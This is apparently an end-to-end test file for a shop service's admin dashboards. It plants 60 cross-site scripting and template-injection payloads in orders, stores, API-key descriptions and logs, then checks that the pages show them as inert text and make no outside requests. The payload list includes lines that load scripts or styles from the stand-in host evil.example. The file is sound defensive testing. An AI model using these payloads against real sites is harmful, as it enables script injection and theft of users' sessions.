import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  jsonFlow,
  startTarget,
  startTestFlows,
  type TestFlows,
  type TestTarget,
} from '../support/flows.ts'
import { deliver } from '../support/money.ts'
import { adminToken, startTestService, type TestService } from '../support/service.ts'
import {
  asAdmin,
  call,
  charge,
  createStore,
  enrol,
  pairTerminal,
  type Till,
} from '../support/till.ts'
import { expectText, openPage, signIn } from './browser.ts'

/** Ways to have a page run, load, follow or frame something, as text that anybody may send. */
const tags = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'video',
  'audio',
  'input',
  'form',
]
const run = 'window.pwned=1'
const payloads: string[] = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `\`><script>${run}</script>`,
  `" onmouseover=${run} x="`,
  `' onfocus=${run} autofocus x='`,
  `" style="background:url(//evil.example/s)`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `\uff1cscript\uff1e${run}`,
  `\u202e>tpircs<${run}`,
  ...tags.map((tag) => `<${tag} src=x href=x data=x onerror=${run} onload=${run}>`),
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<math><a xlink:href=javascript:${run}>x</a></math>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<body onload=${run}>`,
  `<a href=javascript:${run} autofocus onfocus=${run}>x</a>`,
  `<button formaction=javascript:${run}>x</button>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import'//evil.example/x.css'</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href=//evil.example/>`,
  `<object data=//evil.example/x></object>`,
  `<img srcset=//evil.example/x.png>`,
  `<video poster=//evil.example/x.png></video>`,
  `<x contenteditable onblur=${run} autofocus>x</x>`,
  `<p style=animation-name:x onanimationstart=${run}>x</p>`,
  `<portal src=//evil.example/></portal>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<table background=//evil.example/x.png>`,
]

let service: TestService
let target: TestTarget
let flows: TestFlows
let dashboard: string
let admin: string
const client = payloads[0] ?? ''

beforeAll(async () => {
  service = await startTestService()
  dashboard = `${await service.app.listen({ host: '127.0.0.1', port: 0 })}/dashboard`
  target = await startTarget()
  target.answer(422)
  flows = await startTestFlows({ service })
  admin = `${await flows.app.listen({ host: '127.0.0.1', port: 0 })}/admin`
})
afterAll(async () => {
  await flows?.stop()
  await target?.close()
  await service?.stop()
})

/** All of them as fields of one payload, as keys and as values. */
const everything = Object.fromEntries(payloads.map((text) => [text, text]))

async function fillShop(): Promise<{ till: Till; orderId: string }> {
  const till = await enrol(service, client, '7900100')
  const [box = '', store = '', reference = ''] = payloads.slice(8).map((text) => text.slice(0, 60))
  await createStore(service, till, { id: store, boxes: [box] })
  await pairTerminal(service, till, box)
  const { order_id } = (await charge(service, till, { reference, box })).json()
  for (const description of payloads) {
    await asAdmin(service, {
      url: '/api-keys',
      body: { client, description: description.slice(0, 200) },
    })
  }
  const order = await call(service, { url: `/orders/${order_id}`, token: till.key })
  await deliver(service, {
    dataId: order.json().mp_order_id,
    body: { action: client, ...everything },
  })
  const { db } = service.database
  await db
    .insertInto('order_calls')
    .values(
      payloads.map((text) => ({
        order_id,
        client: client as never,
        kind: 'provider' as const,
        at: service.clock.now(),
        duration_ms: 1,
        operation: text,
        caller: text,
        status: 500,
        attempt: 1,
        code: text,
        request_id: text,
      })),
    )
    .execute()
  return { till, orderId: order_id }
}

test('T39: texts from outside are text on the dashboard: 60 ways to have it run or load something do nothing', async () => {
  expect(payloads).toHaveLength(60)
  const { orderId } = await fillShop()
  const watched = await openPage(dashboard)
  const { page } = watched
  await signIn(page, adminToken)
  const of = encodeURIComponent(client)
  for (const [view, shown] of [
    [`overview?client=${of}`, payloads[10]],
    [`orders?client=${of}`, payloads[10]],
    [`orders/${orderId}?of=${of}`, payloads[59]],
    [`stores?client=${of}`, payloads[8]],
    ['clients', client],
    [`webhooks?client=${of}`, client],
    [`activity?client=${of}`, client],
  ] as const) {
    await page.goto(`${dashboard}#/${view}`)
    await page.locator('main h1').waitFor()
    // The single steps of an order stand behind a press.
    if (view.startsWith('orders/')) await page.locator('.every-step > summary').click()
    await expectText(page.locator('main'), shown?.slice(0, 40) ?? '')
  }
  expect(await page.evaluate('window.pwned')).toBeUndefined()
  expect(watched.requested.filter((url) => !url.startsWith(new URL(dashboard).origin))).toEqual([])
  watched.expectQuiet()
  await watched.close()
}, 120_000)

test('T39: and on the page of the flows, in what a source holds and a destination answers', async () => {
  const items = payloads.map((text, index) => ({ id: `${index} ${text}`, text }))
  await flows.write('markup.json', items)
  const flow = jsonFlow('markup', target.url, { description: client })
  await flows.write('markup.flow.yaml', flow)
  await flows.write('broken.flow.yaml', `version: 1\nname: "${client}"\n`)
  await flows.flows.reload('test')
  await flows.call('POST', '/sync/markup?force=true')
  await flows.delivered()
  const errors = (await flows.call('GET', '/errors?flow=markup&limit=100')).json()
  expect(errors).toHaveLength(payloads.length)
  const watched = await openPage(admin)
  const { page } = watched
  await expectText(page.locator('body'), 'markup')
  for (const view of ['errors', 'errors?flow=markup', 'flows/markup', 'activity', '']) {
    await page.goto(`${admin}#/${view}`)
    await page.waitForTimeout(300)
  }
  expect(await page.evaluate('window.pwned')).toBeUndefined()
  expect(watched.requested.filter((url) => !url.startsWith(new URL(admin).origin))).toEqual([])
  watched.expectQuiet()
  await watched.close()
}, 120_000)
